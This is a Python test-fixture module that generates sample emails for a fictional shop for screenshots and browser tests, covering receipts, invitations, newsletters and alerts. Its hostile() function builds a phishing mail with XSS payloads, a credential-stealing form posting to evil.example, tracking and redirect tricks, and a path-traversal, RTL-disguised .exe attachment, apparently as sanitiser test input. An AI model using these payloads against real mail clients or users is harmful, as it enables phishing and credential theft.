"""Mail of an invented shop, as screenshots and browser tests show it: nobody's data, all kinds."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

__all__ = ["Sample", "hostile", "many", "samples"]

SHOP = "Tinder & Thyme <orders@tinderthyme.example>"
STYLE = """
  body { margin: 0; background: #f4f1ea; font-family: Georgia, 'Times New Roman', serif; color: #2b2a27; }
  .card { max-width: 560px; margin: 32px auto; background: #fff; border-radius: 10px; overflow: hidden; }
  .inner { padding: 32px 40px; } h1 { font-size: 26px; font-weight: normal; margin: 0 0 12px; }
  p { font-size: 16px; line-height: 1.6; margin: 0 0 16px; } .quiet { color: #7b766c; font-size: 13px; }
  .button { display: inline-block; background: #2f5d50; color: #fff; padding: 13px 26px; border-radius: 6px; text-decoration: none; font-family: Helvetica, Arial, sans-serif; font-size: 15px; }
  .code { font: 600 34px/1 Menlo, Consolas, monospace; letter-spacing: 8px; background: #f4f1ea; padding: 20px; text-align: center; border-radius: 8px; margin: 20px 0; }
  td { padding: 10px 0; border-bottom: 1px solid #eee8dc; font-size: 15px; } td.price { text-align: right; }
  .head { background: #2f5d50; color: #f4f1ea; padding: 18px 40px; font-size: 19px; letter-spacing: .5px; }
  @media (prefers-color-scheme: dark) {
    body { background: #161513 !important; color: #e8e4da !important; } .card { background: #22201d !important; }
    .code { background: #161513 !important; } td { border-color: #3a3731 !important; } .quiet { color: #9b958a !important; }
    .button, .head { background: #3d7a69 !important; }
  }
"""


@dataclass(frozen=True, slots=True)
class Sample:
    """One mail, and the envelope that it goes by."""

    message: EmailMessage
    sender: str = "bounces@tinderthyme.example"
    recipients: tuple[str, ...] = ("ann.lindqvist@example.com",)
    user: str = ""
    tags: tuple[str, ...] = field(default=())


def _page(content: str, *, preheader: str = "") -> str:
    return (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Tinder &amp; Thyme</title>'
        '<meta name="viewport" content="width=device-width"><meta name="color-scheme" content="light dark">'
        f"<style>{STYLE}</style></head><body>"
        f'<div style="display:none">{preheader}</div>'
        f'<div class="card"><div class="head">Tinder &amp; Thyme</div><div class="inner">{content}</div></div>'
        "</body></html>"
    )


def _message(
    subject: str,
    text: str,
    html: str = "",
    *,
    to: str = "Ann Lindqvist <ann.lindqvist@example.com>",
    author: str = SHOP,
    **fields: str,
) -> EmailMessage:
    message = EmailMessage()
    message["From"] = author
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = format_datetime(datetime.now(UTC) - timedelta(seconds=3))
    message["Message-ID"] = make_msgid(domain="tinderthyme.example")
    for name, value in fields.items():
        message[name.replace("_", "-")] = value
    message.set_content(text)
    if html:
        message.add_alternative(html, subtype="html")
    return message


def picture(width: int, height: int, color: tuple[int, int, int]) -> bytes:
    """Return a PNG: a field that gets darker downward."""
    rows = b"".join(
        b"\0" + bytes(max(channel - 60 * y // height, 0) for channel in color) * width
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    size = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", size)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def confirmation() -> Sample:
    """A sign-up with a code and a button."""
    link = "https://tinderthyme.example/confirm?token=4fzQ81sKd0aV"
    html = _page(
        "<h1>Confirm your address</h1><p>Hello Ann, enter this code to finish setting up your account:</p>"
        '<div class="code">481 920</div><p>Or follow the link; it is good for thirty minutes.</p>'
        f'<p><a class="button" href="{link}">Confirm my address</a></p>'
        '<p class="quiet">You did not sign up? Then you can leave this mail alone.</p>',
        preheader="481920 is your code",
    )
    text = f"Hello Ann,\n\nyour confirmation code is 481920\n\nOr follow the link: {link}\n\nIt is good for thirty minutes.\n"
    return Sample(_message("481920 is your Tinder & Thyme code", text, html, X_Tags="signup"))


def receipt() -> Sample:
    """A receipt with a PDF."""
    rows = "".join(
        f'<tr><td>{name}</td><td class="price">{price}</td></tr>'
        for name, price in (
            ("Cast-iron skillet, 26 cm", "€ 64.00"),
            ("Linen apron, moss", "€ 38.00"),
            ("Smoked salt, 2 x 90 g", "€ 13.80"),
            ("Delivery", "€ 4.90"),
            ("<b>Total</b>", "<b>€ 120.70</b>"),
        )
    )
    html = _page(
        f'<h1>Thank you, Ann.</h1><p>We have your order <b>TT-10432</b> and pack it today.</p><table width="100%" cellspacing="0">{rows}</table>'
        '<p style="margin-top:24px"><a class="button" href="https://tinderthyme.example/orders/TT-10432">Follow the order</a></p>'
        '<img src="https://cdn.tinderthyme.example/banner.jpg" width="480" height="120" alt="This autumn in the kitchen">'
        '<p class="quiet"><a href="http://localhost:3000/preferences">Preferences</a> · <a href="https://tinderthyme.example/help">Help</a></p>',
        preheader="Order TT-10432: € 120.70",
    )
    message = _message(
        "Your order TT-10432 is confirmed",
        "Thank you, Ann. Your total was EUR 120.70.\n",
        html,
        X_Tags="orders, receipt",
    )
    message.add_attachment(
        b"%PDF-1.7\n" + b"0" * 48_213,
        maintype="application",
        subtype="pdf",
        filename="Invoice TT-10432.pdf",
    )
    return Sample(message)


def invitation() -> Sample:
    """An invitation with a calendar part."""
    calendar = """BEGIN:VCALENDAR
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
UID:tasting-7@tinderthyme.example
DTSTART;TZID=Europe/Stockholm:20261204T183000
DTEND;TZID=Europe/Stockholm:20261204T210000
SUMMARY:Winter tasting in the test kitchen
LOCATION:Hantverkargatan 14\\, Stockholm
ORGANIZER;CN=Mira Sand:mailto:mira@tinderthyme.example
ATTENDEE;CN=Ann Lindqvist;PARTSTAT=NEEDS-ACTION:mailto:ann.lindqvist@example.com
DESCRIPTION:Six dishes\\, four wines.
STATUS:CONFIRMED
END:VEVENT
END:VCALENDAR
"""
    message = _message(
        "Invitation: Winter tasting in the test kitchen",
        "Dear Ann,\n\nwe would love to have you at our table on December 4.\n\nMira\n",
        author="Mira Sand <mira@tinderthyme.example>",
        X_Tags="events",
    )
    message.add_attachment(
        calendar.encode(),
        maintype="text",
        subtype="calendar",
        filename="invite.ics",
        params={"method": "REQUEST"},
    )
    message.add_attachment(
        picture(640, 420, (196, 96, 60)), maintype="image", subtype="png", filename="table.png"
    )
    message.add_attachment(
        b"name,dish\nAnn,vegetarian\n", maintype="text", subtype="csv", filename="guests.csv"
    )
    return Sample(message, sender="mira@tinderthyme.example")


def newsletter() -> Sample:
    """A newsletter with inline pictures, and a placeholder that nobody filled in."""
    html = _page(
        '<img src="cid:hero@tt" width="480" alt=""><h1>Five things to do with quince</h1>'
        "<p>Hi {{ first_name }}, the trees are heavy this year. Poach them, roast them, or let them perfume a drawer.</p>"
        '<p><a class="button" href="https://tinderthyme.example/journal/quince">Read the story</a></p>'
        '<img src="https://cdn.tinderthyme.example/quince-1.jpg" width="230" height="150"> <img src="https://cdn.tinderthyme.example/quince-2.jpg" width="230" height="150">'
        '<p class="quiet">You get this because you asked for it. <a href="https://tinderthyme.example/u/9a1">Unsubscribe</a></p>',
        preheader="Poach them, roast them, or let them perfume a drawer.",
    )
    message = _message(
        "The Thyme Journal: five things to do with quince",
        "Poach them, roast them, or let them perfume a drawer.\n",
        html,
        author="The Thyme Journal <journal@tinderthyme.example>",
        X_Tags="newsletter",
        List_Unsubscribe="<https://tinderthyme.example/u/9a1>",
    )
    part = message.get_payload()[1]
    part.add_related(
        picture(960, 360, (148, 160, 92)),
        maintype="image",
        subtype="png",
        cid="<hero@tt>",
        disposition="inline",
        filename="hero.png",
    )  # type: ignore[union-attr]
    return Sample(message, recipients=("readers@example.com",))


def alert() -> Sample:
    """A plain alert of a machine."""
    text = (
        "host: web-03.tinderthyme.example\ncheck: disk /var at 91 % (warning at 85 %)\nsince: 14:02 UTC\n\n"
        "largest:\n  18.2 GiB  /var/lib/postgresql\n   6.4 GiB  /var/log/nginx\n\nhttps://status.tinderthyme.example/alerts/7719\n"
    )
    return Sample(
        _message(
            "[warning] disk /var at 91 % on web-03",
            text,
            to="ops@example.com",
            author="monitor@web-03.tinderthyme.example",
            X_Tags="ops",
        ),
        sender="root@web-03.tinderthyme.example",
        recipients=("ops@example.com", "oncall@example.net"),
    )


def others() -> Iterator[Sample]:
    """Short ones that fill the list."""
    reset = "https://tinderthyme.example/reset?token=77ad2c"
    yield Sample(
        _message(
            "Reset your password",
            f"Somebody asked for a new password: {reset}\n",
            _page(
                f'<h1>A new password</h1><p>Follow the link within the hour.</p><p><a class="button" href="{reset}">Choose a password</a></p>'
            ),
            to="jonas@example.org",
            X_Tags="signup",
        ),
        recipients=("jonas@example.org",),
    )
    yield Sample(
        _message(
            "Your parcel is on its way",
            "Tracking: https://parcel.example/track/00340434161094\n",
            to="lena.berg@example.com",
            X_Tags="orders",
        ),
        recipients=("lena.berg@example.com",),
    )
    yield Sample(
        _message(
            "Välkommen, Åsa! 🌿",
            "Roligt att du är här.\n",
            to="Åsa Öberg <asa@example.se>",
            X_Tags="signup",
        ),
        recipients=("asa@example.se",),
    )
    yield Sample(
        _message("مرحبا بك في المطبخ", "شكرا لانضمامك إلينا.\n", to="samir@example.com"),
        recipients=("samir@example.com",),
    )
    yield Sample(
        _message(
            "Re: Delivery to a locker?",
            "Hello Kim,\n\nyes, choose it at the last step.\n\n> Can you deliver to a parcel locker?\n",
            to="Kim <kim@example.net>",
            author="Support <support@tinderthyme.example>",
            X_Tags="support",
        ),
        sender="support@tinderthyme.example",
        recipients=("kim@example.net",),
    )
    yield Sample(
        _message(
            "Payment failed for TT-10398",
            "We could not charge your card. Please try another one: https://tinderthyme.example/pay/TT-10398\n",
            to="marco.rossi@example.it",
            X_Tags="orders",
        ),
        recipients=("marco.rossi@example.it",),
    )
    yield Sample(
        _message(
            "Weekly report: 1,204 orders, 98.2 % on time",
            "See the attached table.\n",
            to="team@example.com, boss@example.com",
            author="Reports <reports@tinderthyme.example>",
        ),
        recipients=("team@example.com", "boss@example.com"),
    )


def samples() -> list[Sample]:
    """Return the mail of one morning, the last one to come last."""
    return [*others(), alert(), newsletter(), invitation(), receipt(), confirmation()]


def many(count: int) -> Iterator[EmailMessage]:
    """Yield as many short mails as are wanted."""
    for number in range(count):
        yield _message(
            f"Order TT-{20_000 + number} has shipped",
            f"Parcel {number} is on its way.\n",
            to=f"customer{number}@example.com",
        )


def hostile() -> Sample:
    """A mail that tries what hostile mail tries."""
    html = (
        "<!DOCTYPE html><html><head><base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>"
        "<meta http-equiv=refresh content='0;url=https://evil.example/'><style>@import 'https://evil.example/i.css'; "
        "body { background: url(https://evil.example/bg.png); font-family: sans-serif }</style></head><body>"
        "<h1>Your account is locked</h1><script>parent.document.title='owned'; alert(document.cookie)</script>"
        "<img src=x onerror=alert(1)><iframe src='javascript:alert(2)'></iframe><svg onload=alert(3)></svg>"
        "<p>Please <a href='https://bank.example@evil.example/login'>sign in at bank.example</a> now.</p>"
        "<form action='https://evil.example/steal'><input name=password placeholder=Password> <button>Unlock</button></form>"
        "<a href='javascript:alert(4)'>Details</a> <img src='https://evil.example/pixel.gif' width=1 height=1></body></html>"
    )
    message = _message(
        '<script>alert("subject")</script> Your account is locked',
        "Please sign in.\n",
        html,
        author='"<img src=x onerror=alert(1)>" <security@bank.example>',
        X_Tags="phishing",
    )
    message.add_attachment(
        b"MZ" + b"\0" * 900,
        maintype="application",
        subtype="octet-stream",
        filename="../../invoice\u202efdp.exe",
    )
    return Sample(message, sender="x@evil.example")
